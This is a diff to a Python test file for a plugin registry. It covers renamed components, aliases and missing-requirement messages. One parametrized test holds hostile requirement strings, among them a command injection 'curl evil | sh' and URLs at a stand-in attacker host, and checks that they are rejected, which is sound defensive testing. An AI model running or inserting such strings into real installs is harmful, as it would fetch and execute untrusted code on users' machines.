@@ -302,7 +302,7 @@ def test_only_our_own_distributions_get_a_command(distribution: str, text: str) 
 @pytest.mark.parametrize("requirement", ["x @ https://evil.example/x.whl", "x; curl evil | sh", "--index-url=evil x"])
 def test_a_requirement_that_is_no_plain_name_gets_no_command(install: Install, requirement: str) -> None:
     install("good", plugin_source(requires=(requirement,)))
-    assert Registry().find("detector", "nice").problem == f"missing requirement: {requirement!r}"
+    assert Registry().find("detector", "nice").problem == f"needs the requirement {requirement!r}"
 
 
 def test_a_name_must_be_text() -> None:
@@ -339,15 +339,58 @@ def test_a_former_name_may_clash_too(install: Install) -> None:
     assert (registry.taken_by(fine), registry.taken_by(grand)) == (["other:grand"], ["good:fine"])
 
 
+def test_a_component_that_moved_is_found_by_its_former_distribution(install: Install) -> None:
+    install("good", RENAMED.format(aliases=("other:nice", "other:grand", "gone:fine")))
+    install("other", plugin_source(target="fractions:Fraction"))
+    registry = Registry()
+    assert registry.find("detector", "other:nice").qualified_name == "other:nice"  # it is still there
+    for former in ("other:grand", "gone:fine"):
+        with pytest.warns(RenamedWarning, match=f"^detector '{former}' is now called 'good:fine'$"):
+            assert registry.find("detector", former).qualified_name == "good:fine"
+    assert (registry.offers("detector", "gone:fine"), registry.offers("detector", "gone:nice")) == (True, False)
+    with former_names_allowed():  # as in a model file
+        assert registry.find(None, "gone:fine").spec.name == "fine"
+    assert registry.taken_by(registry.find("detector", "good:fine")) == []
+    with pytest.raises(PluginError, match=r"unknown detector 'grand'"):  # as a short name it never was good's
+        registry.find("detector", "grand")
+    with pytest.raises(PluginError, match=r"extractor 'gone:fine' is not installed: install 'gone' if you know and"):
+        registry.find("extractor", "gone:fine")
+
+
+def test_two_that_claim_to_have_moved_from_one_name_clash(install: Install) -> None:
+    install("good", RENAMED.format(aliases=("gone:thing",)))
+    install("other", RENAMED.format(aliases=("gone:thing",)))
+    with pytest.raises(PluginError, match=r"'gone:thing' is offered more than once: write good:fine or other:fine"):
+        Registry().find("detector", "gone:thing")
+
+
+def test_what_is_ours_has_moved_to_no_stranger(install: Install) -> None:
+    install("good", RENAMED.format(aliases=("asd-sklearn:knn",)))
+    registry = Registry()
+    with pytest.raises(PluginError, match=r"^detector 'asd-sklearn:knn' is not installed: pip install asd-sklearn$"):
+        registry.find("detector", "asd-sklearn:knn")
+    assert not registry.offers("detector", "asd-sklearn:knn")
+    install("asd-autoencoder", RENAMED.format(aliases=("asd-sklearn:knn",)))
+    with former_names_allowed():
+        assert ours("asd-autoencoder").find("detector", "asd-sklearn:knn").qualified_name == "asd-autoencoder:fine"
+
+
+def ours(distribution: str) -> Registry:
+    """Return a registry of what the test installed under the name of a distribution of ours."""
+    found = importlib.metadata.distribution(distribution)
+    return Registry(list(found.entry_points))
+
+
 @pytest.mark.parametrize(
     ("aliases", "reason"),
     [
+        (("gone:x", "gone:x"), "component 'fine': aliases must be other names than its own, got ('gone:x', 'gone:x')"),
         (("nice",), "offers detector 'nice' more than once, by name or alias"),
         (("fine",), "component 'fine': aliases must be other names than its own, got ('fine',)"),
         (
             ("Grand",),
-            "component 'fine': aliases must be a tuple of names of lower-case letters, digits, '.', '_' or '-', got "
-            "('Grand',)",
+            "component 'fine': aliases must be a tuple of names, or distribution:name, of lower-case letters, digits, "
+            "'.', '_' or '-', got ('Grand',)",
         ),
     ],
 )
@@ -381,10 +424,10 @@ def test_missing_requirement_and_newer_contract_are_states(install: Install) -> 
     registry = Registry()
     lacking = registry.find("detector", "nice")
     assert lacking.problem is not None
-    assert "missing requirement: pip install" in lacking.problem
+    assert "needs pip install" in lacking.problem
     assert "no-such-thing>=3" in lacking.problem
     assert "numpy" not in lacking.problem
-    with pytest.raises(PluginError, match=r"detector 'nice' cannot run: missing requirement"):
+    with pytest.raises(PluginError, match=r"detector 'nice' cannot run: needs pip install"):
         load_target(lacking)
     assert registry.find("detector", "modern").problem == (
         f"needs plugin contract {API_VERSION + 1}, this asd-framework has {API_VERSION}: upgrade it"
@@ -426,8 +469,7 @@ def test_a_missing_requirement_is_told_with_what_does_without(install: Install) 
     with pytest.raises(PluginError) as raised:
         load_target(Registry().find("detector", "nice"))
     assert str(raised.value) == (
-        "detector 'nice' cannot run: missing requirement: pip install 'no-such-thing'; "
-        "or use plain, which does the same without"
+        "detector 'nice' cannot run: needs pip install 'no-such-thing'; or use plain, which does the same without"
     )
 
 
